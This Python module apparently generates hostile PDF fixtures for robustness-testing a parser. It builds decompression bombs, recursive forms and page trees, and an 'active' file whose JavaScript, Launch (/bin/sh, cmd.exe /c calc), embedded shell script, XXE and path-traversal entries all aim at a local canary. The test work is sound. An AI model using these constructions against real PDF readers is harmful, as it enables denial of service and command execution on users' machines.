"""PDFs made to do harm, from nothing. In: a random generator (for sizes); out: bytes.

Bombs, endless content, cycles of every sort, and things that would reach out of the file: scripts, attachments, launch actions,
external links and streams. `CANARY` stands in what these would fetch; it must never come out.
"""

from __future__ import annotations

import random
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

Maker = Callable[[random.Random], bytes]
Stream = tuple[bytes, bytes]
"""Entries of a stream's dictionary, and its bytes."""

CANARY = "CANARY-6b1f"

FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]"
TEXT = b"BT /F1 12 Tf 72 700 Td (Thuc hien Nghi quyet so 02-NQ/TW) Tj ET"


def pdf(objects: Mapping[int, bytes | Stream], trailer: bytes = b"") -> bytes:
    """A file with these objects; 1 is the catalogue."""
    out, offsets = bytearray(b"%PDF-1.7\n"), {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        if isinstance(body, tuple):
            body = b"<< %s /Length %d >>\nstream\n%s\nendstream" % (body[0], len(body[1]), body[1])
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n" + b"".join(b"%d 1\n%010d 00000 n \n" % o for o in sorted(offsets.items()))
    return bytes(out + b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (max(objects) + 1, trailer, start))


def sheet(
    content: bytes | Stream = TEXT, resources: bytes = b"", more: Mapping[int, bytes | Stream] | None = None,
    page: bytes = b"", catalogue: bytes = b"", box: bytes = b"0 0 595 842",
) -> bytes:  # fmt: skip
    """A file of one page; its objects are 1 to 5, `more` may replace them."""
    return pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> %s >> %s >>"
           % (box, resources, page),
        4: content if isinstance(content, tuple) else (b"", content),
        5: FONT,
        **(more or {}),
    })  # fmt: skip


def packed(data: bytes, times: int = 1) -> Stream:
    """A stream packed once or several times."""
    for _ in range(times):
        data = zlib.compress(data, 9)
    return b"/Filter [%s]" % (b" /FlateDecode" * times), data


def bomb_of_content(rng: random.Random) -> bytes:
    """Content that unpacks to hundreds of megabytes."""
    return sheet(packed(b" " * (rng.choice((50, 300)) << 20)))


def bomb_in_bomb(rng: random.Random) -> bytes:
    """The same, packed twice."""
    return sheet(packed(bytes(rng.choice((50, 300)) << 20), 2))


def bomb_of_text(rng: random.Random) -> bytes:
    """Millions of characters, packed."""
    return sheet(
        packed(
            b"BT /F1 12 Tf "
            + b"1 0 0 1 72 700 Tm (aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) Tj " * rng.choice((20_000, 400_000))
            + b"ET"
        )
    )


def bomb_of_picture(rng: random.Random) -> bytes:
    """A picture of 100,000 by 100,000 pixels, of which some are there."""
    head, data = packed(bytes(rng.choice((1, 100)) << 20))
    bits = rng.choice((b"1", b"8"))
    colour = rng.choice((b"/DeviceGray", b"/DeviceRGB", b"/DeviceCMYK"))
    head = b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent %s /ColorSpace %s %s" % (
        bits,
        colour,
        head,
    )
    return sheet(b"q 595 0 0 842 0 0 cm /I Do Q", b"/XObject << /I 6 0 R >>", {6: (head, data)})


def bomb_of_objects(rng: random.Random) -> bytes:
    """A stream of objects that unpacks to a great deal."""
    body = b"7 0 " + b" " * (200 << 20)
    return sheet(more={6: (b"/Type /ObjStm /N 1 /First 4 " + packed(b"")[0], packed(body)[1]), 3: b"7 0 R"})


def forms(rng: random.Random) -> bytes:
    """Forms that draw themselves, or one another, ten times each."""
    depth, times = rng.choice(((1, 1), (2, 5), (30, 10), (400, 1)))
    more: dict[int, bytes | Stream] = {}
    for i in range(depth):
        inner = 10 + (i + 1) % depth if rng.random() < 0.5 or i + 1 < depth else 10
        head = FORM + b" /Resources << /Font << /F1 5 0 R >> /XObject << /X %d 0 R >> >>" % inner
        more[10 + i] = (head, TEXT + b" /X Do" * times)
    return sheet(b"/X Do", b"/XObject << /X 10 0 R >>", more)


def laughs(rng: random.Random) -> bytes:
    """Thirty forms, each of which draws the next ten times: ten to the thirtieth lines of text."""
    more: dict[int, bytes | Stream] = {}
    for i in range(30):
        head = FORM + b" /Resources << /Font << /F1 5 0 R >> /XObject << /X %d 0 R >> >>" % (11 + i)
        more[10 + i] = (head, b"/X Do " * 10)
    more[40] = (b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >>", TEXT)
    return sheet(b"/X Do", b"/XObject << /X 10 0 R >>", more)


def cyclic_patterns(rng: random.Random) -> bytes:
    """A pattern that is painted with itself, and a mask that masks itself."""
    pattern = b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.01 /YStep 0.01"
    mask = b"<< /Type /ExtGState /SMask << /Type /Mask /S /Luminosity /G 8 0 R >> >>"
    used = b"/Resources << /Pattern << /P 6 0 R >> /ExtGState << /G 7 0 R >> >>"
    return sheet(
        b"/G gs /Pattern cs /P scn 0 0 595 842 re f",
        b"/Pattern << /P 6 0 R >> /ExtGState << /G 7 0 R >>",
        {
            6: (pattern + b" " + used, b"/Pattern cs /P scn 0 0 1 1 re f"),
            7: mask,
            8: (
                b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Group << /S /Transparency >> " + used,
                b"/G gs 0 0 9 9 re f",
            ),
        },
    )


def cyclic_glyphs(rng: random.Random) -> bytes:
    """A font whose glyph is written in that font."""
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0] /CharProcs << /a 6 0 R >>"
    )
    font += b" /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [500]"
    font += b" /Resources << /Font << /F1 5 0 R >> >> >>"
    return sheet(b"BT /F1 12 Tf 72 700 Td (aaaa) Tj ET", more={5: font, 6: (b"", b"500 0 d0 BT /F1 900 Tf (aaaa) Tj ET")})


def many_states(rng: random.Random) -> bytes:
    """Saved states without end, and nested text and marks."""
    times = rng.choice((1_000, 300_000))
    return sheet(packed(rng.choice((b"q ", b"BT ", b"/A BMC ", b"[", b"<<", b"(")) * times + TEXT))


def many_lines(rng: random.Random) -> bytes:
    """A grid of tens of thousands of ruled lines and cells."""
    n = rng.choice((50, 150, 3_000))
    lines = [b"0 %d m 595 %d l S" % (i % 842, i % 842) for i in range(n)] + [
        b"%d 0 m %d 842 l S" % (i % 595, i % 595) for i in range(n)
    ]
    return sheet(packed(b"\n".join(lines) + b"\n" + TEXT))


def many_cells(rng: random.Random) -> bytes:
    """Thousands of small tables with a word in each."""
    n = rng.choice((20, 70))
    out = [b"%g %g 8 8 re S" % (5 + 8 * (i % n), 5 + 8 * (i // n)) for i in range(n * n)]
    out += [b"BT /F1 4 Tf %g %g Td (%d) Tj ET" % (6 + 8 * (i % n), 6 + 8 * (i // n), i) for i in range(n * n)]
    return sheet(packed(b"\n".join(out)))


def many_words(rng: random.Random) -> bytes:
    """A page of 200,000 characters, one upon another or far apart."""
    n = rng.choice((5_000, 50_000))
    how = rng.randrange(4)

    def place(i: int) -> tuple[float, float]:
        if how == 0:
            return 72, 700
        if how == 1:
            return (i * 7) % 595, (i * 13) % 842
        if how == 2:
            return 72, 842 - i * 842 / n
        return i * 595 / n, 400

    return sheet(
        packed(
            b"BT /F1 %d Tf " % rng.choice((1, 6, 12))
            + b"".join(b"1 0 0 1 %g %g Tm (an%d ) Tj " % (*place(i), i % 100) for i in range(n))
            + b"ET"
        )
    )


def one_long_line(rng: random.Random) -> bytes:
    """A word, or a line, of a hundred thousand characters."""
    body = rng.choice((b"a", b"a ", b"1.", b"DIEU 1. ", b"((", b"...... ", b"I. a) - ")) * 60_000
    return sheet(packed(b"BT /F1 0.01 Tf 72 700 Td (" + body.replace(b"(", b"\\(") + b") Tj ET"))


def many_pages(rng: random.Random) -> bytes:
    """One page two hundred times, in a flat tree or a deep one."""
    n = rng.choice((50, 200))
    objects: dict[int, bytes | Stream] = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 5: FONT, 4: (b"", TEXT)}
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
    if rng.random() < 0.5:
        objects |= {2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b"3 0 R " * n, n), 3: page}
        return pdf(objects)
    for i in range(n):
        kids = b"%d 0 R 3 0 R" % (11 + i) if i + 1 < n else b"3 0 R"
        objects[10 + i] = b"<< /Type /Pages /Parent 2 0 R /Kids [%s] /Count %d >>" % (kids, n - i)
    return pdf({**objects, 2: b"<< /Type /Pages /Kids [10 0 R] /Count %d >>" % n, 3: page})


def cyclic_pages(rng: random.Random) -> bytes:
    """A tree of pages that holds itself, and parents that are their own."""
    kids = rng.choice((b"2 0 R 3 0 R", b"3 0 R 2 0 R", b"6 0 R 3 0 R", b"2 0 R"))
    more = {2: b"<< /Type /Pages /Kids [%s] /Count %d /Parent 6 0 R >>" % (kids, rng.choice((1, 9, 100_000))),
            6: b"<< /Type /Pages /Kids [2 0 R] /Count 5 /Parent 2 0 R >>"}  # fmt: skip
    return sheet(more=more)


def endless_maps(rng: random.Random) -> bytes:
    """Maps and widths of a font that cover everything."""
    cmap = (
        b"1 begincodespacerange <00000000> <ffffffff> endcodespacerange 1 beginbfrange <00000000> <ffffffff> <0041> endbfrange"
    )
    inner = b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo << /Registry (A) /Ordering (B) /Supplement 0 >>"
    inner += b" /W [0 2000000000 500 1 [" + b"1 " * 1000 + b"]] /DW 1000 >>"
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding %s /ToUnicode 7 0 R /DescendantFonts [6 0 R] >>"
    encoding = rng.choice((b"/Identity-H", b"7 0 R", b"5 0 R", b"/../../etc/passwd"))
    return sheet(b"BT /F1 12 Tf 72 700 Td <00410042> Tj ET", more={5: font % encoding, 6: inner, 7: (b"/UseCMap 7 0 R", cmap)})


def pictures_in_content(rng: random.Random) -> bytes:
    """Pictures within content that lie about their size."""
    sizes = (
        rng.choice((1, 99_999, 2**31 - 1)),
        rng.choice((1, 99_999)),
        rng.choice((b"/F /Fl", b"/F /LZW", b"/F /CCF", b"/F /RL", b"")),
    )
    return sheet(
        b"q 500 0 0 500 0 0 cm BI /W %d /H %d /BPC 8 /CS /RGB %s ID " % sizes + bytes(rng.randbytes(3000)) + b" EI Q " + TEXT
    )


def coded_pictures(rng: random.Random) -> bytes:
    """Pictures of every coding whose data are noise, or zeros."""
    name, more = rng.choice((
        (b"/CCITTFaxDecode", b"/DecodeParms << /K %d /Columns 100000 /Rows 100000 >>" % rng.choice((-1, 0, 4))),
        (b"/JBIG2Decode", b""), (b"/JPXDecode", b""), (b"/DCTDecode", b""), (b"/LZWDecode", b""), (b"/RunLengthDecode", b""),
        (b"/FlateDecode", b"/DecodeParms << /Predictor 15 /Colors 100000 /Columns 100000 /BitsPerComponent 16 >>"),
    ))  # fmt: skip
    data = rng.choice(
        (rng.randbytes(100_000), bytes(100_000), b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03" + rng.randbytes(5000))
    )
    head = (
        b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter %s %s"
        % (name, more)
    )
    return sheet(b"q 595 0 0 842 0 0 cm /I Do Q " + TEXT, b"/XObject << /I 6 0 R >>", {6: (head, data)})


def huge_sheet(rng: random.Random) -> bytes:
    """A page of any size."""
    sides = [rng.choice((b"0", b"-1", b"1e30", b"14400", b"200000", b"0.001", b"3000000000")) for _ in range(2)]
    return sheet(box=b"0 0 " + b" ".join(sides), page=rng.choice((b"", b"/Rotate 45", b"/UserUnit 100000", b"/Rotate 90")))


def active(rng: random.Random, canary: Path | None = None, address: str = "http://127.0.0.1:9/" + CANARY) -> bytes:
    """Everything that could reach out of a file: scripts, actions, attachments, external streams and pictures, forms in XML.

    Args:
        rng: of no account.
        canary: a file that external streams name.
        address: where links and forms lead.
    """
    file = b"(%s)" % str(canary or f"/tmp/{CANARY}").encode()
    url = b"(%s)" % address.encode()
    script = b"<< /S /JavaScript /JS (app.launchURL\\(%s\\); this.exportDataObject\\(1\\)) >>" % address.encode()
    actions = [
        script,
        b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> /Unix << /F (/bin/touch) /P %s >> >>" % file,
        b"<< /S /URI /URI %s >>" % url,
        b"<< /S /GoToR /F %s /D [0 /Fit] >>" % file,
        b"<< /S /SubmitForm /F << /FS /URL /F %s >> /Flags 4 >>" % url,
        b"<< /S /ImportData /F %s >>" % file,
        b"<< /S /Rendition /OP 0 /JS 7 0 R >>",
        b"<< /S /Movie /F %s >>" % file,
    ]
    annots = b" ".join(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A %s /AA << /PO %s /PV %s >> >>" % (a, a, a) for a in actions
    )
    annots += b" << /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 8 0 R >>"
    image = b"/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray"
    image += b" /F %s /OPI << /2.0 << /F %s >> >>"
    more: dict[int, bytes | Stream] = {
        4: (b"/F %s /FFilter /FlateDecode" % file, TEXT),
        6: (image % (file, file), bytes(81)),
        7: (b"", b"app.alert(1)"),
        8: b"<< /Type /Filespec /F (../../../../tmp/%s) /UF (..\\\\%s) /EF << /F 9 0 R >> >>"
        % (CANARY.encode(), CANARY.encode()),
        9: (b"/Type /EmbeddedFile /Subtype /application#2Fx-sh", b"#!/bin/sh\ntouch " + file[1:-1]),
        10: (b"", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://%s">]><xdp:xdp>&e;</xdp:xdp>' % file[1:-1]),
        11: (b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F %s /Page 0 >>" % file, b""),
        12: (b"", TEXT),
    }
    catalogue = b"/OpenAction %s /AA << /WC %s /DP %s >> /AcroForm << /XFA 10 0 R /Fields [] /NeedAppearances true >>" % (
        (script,) * 3
    )
    catalogue += (
        b" /Names << /JavaScript << /Names [(a) %s] >> /EmbeddedFiles << /Names [(a) 8 0 R] >> >> /URI << /Base %s >>"
        % (script, url)
    )
    page = b"/Annots [%s] /AA << /O %s /C %s >> /Contents [12 0 R 4 0 R]" % (annots, script, actions[1])
    content = sheet(b"", b"/XObject << /I 6 0 R /R 11 0 R >>", more, page.replace(b"/Contents [12 0 R 4 0 R]", b""), catalogue)
    return content.replace(b"/Contents 4 0 R", b"/Contents [12 0 R 4 0 R]")


MADE: tuple[Maker, ...] = (
    bomb_of_content, bomb_in_bomb, bomb_of_text, bomb_of_picture, bomb_of_objects, forms, laughs, cyclic_patterns,
    cyclic_glyphs, many_states, many_lines, many_cells, many_words, one_long_line, many_pages, cyclic_pages, endless_maps,
    pictures_in_content, coded_pictures, huge_sheet, active,
)  # fmt: skip
"""All of them."""
